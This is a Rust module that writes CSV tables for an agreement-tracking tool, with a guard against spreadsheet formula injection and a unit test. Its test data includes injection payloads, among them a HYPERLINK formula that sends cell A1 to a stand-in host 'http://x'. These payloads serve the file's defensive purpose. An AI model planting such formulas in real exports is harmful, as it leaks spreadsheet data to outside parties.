//! The tables that span agreements, as data for every front end alike (the command line's
//! `--json` and `--csv`, the web app's pages and downloads): the sub-processor register
//! ([`register`]), the deadlines ([`deadlines`]), the review matrix ([`review`]), and the one
//! CSV writer, safe for spreadsheets. Pure functions over [`crate::index::Agreement`]s and
//! [`crate::record::Review`]s; nothing here prints.

pub mod bulk;
pub mod deadlines;
pub mod register;
pub mod review;

use std::io::Write;

/// A cell as a spreadsheet should show it (the OWASP rule against CSV injection): text that a
/// spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, TAB or CR) gets a
/// leading apostrophe. A plain negative number (`-5`, `-0,5`) stays as it is: a spreadsheet
/// reads it as a number, not a formula. A cell already guarded keeps its one apostrophe.
pub fn spreadsheet_safe(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_negative_number(cell) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

/// `-` followed by digits with at most one decimal point or comma.
pub fn is_plain_negative_number(cell: &str) -> bool {
    let Some(digits) = cell.strip_prefix('-') else {
        return false;
    };
    let (whole, fraction) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.chars().all(|c| c.is_ascii_digit())
        && fraction.chars().all(|c| c.is_ascii_digit())
}

/// Write a CSV table to `w`: byte order mark, header, rows, every cell [`spreadsheet_safe`].
pub fn write_csv(
    w: impl Write,
    sep: u8,
    header: &[String],
    mut rows: impl Iterator<Item = Vec<String>>,
) -> Result<(), csv::Error> {
    let mut w = w;
    w.write_all("\u{feff}".as_bytes())?;
    let mut w = csv::WriterBuilder::new().delimiter(sep).from_writer(w);
    let safe = |row: &[String]| row.iter().map(|c| spreadsheet_safe(c)).collect::<Vec<_>>();
    w.write_record(safe(header))?;
    rows.try_for_each(|r| w.write_record(safe(&r)))?;
    w.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(sep: u8, rows: Vec<Vec<String>>) -> String {
        let mut buf = Vec::new();
        write_csv(
            &mut buf,
            sep,
            &["a".to_string(), "b".to_string()],
            rows.into_iter(),
        )
        .expect("write");
        String::from_utf8(buf).expect("utf-8")
    }

    #[test]
    fn cells_round_trip_and_never_run_as_formulas() {
        let cells = [
            "=HYPERLINK(\"http://x\"&A1,\"Klik\")",
            "+45 12 34",
            "@SUM(A1)",
            "-A1",
            "\tx",
            "\rx",
            "semi; colon",
            "quote \" in",
            "line\nbreak",
            "-5",
            "-0,5",
            "æøå",
        ];
        let rows: Vec<Vec<String>> = cells
            .chunks(2)
            .map(|c| c.iter().map(|s| s.to_string()).collect())
            .collect();
        for sep in [b',', b';', b'\t'] {
            let text = written(sep, rows.clone());
            assert!(text.starts_with('\u{feff}'));
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(sep)
                .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            let got: Vec<String> = reader
                .records()
                .flat_map(|r| {
                    r.expect("record")
                        .iter()
                        .map(str::to_string)
                        .collect::<Vec<_>>()
                })
                .collect();
            assert_eq!(got.len(), cells.len());
            for (cell, back) in cells.iter().zip(&got) {
                assert!(!back.starts_with(['=', '+', '@', '\t', '\r']), "{back:?}");
                assert!(
                    !back.starts_with('-') || is_plain_negative_number(back),
                    "{back:?}"
                );
                assert_eq!(back.strip_prefix('\'').unwrap_or(back), *cell);
            }
        }
    }
}
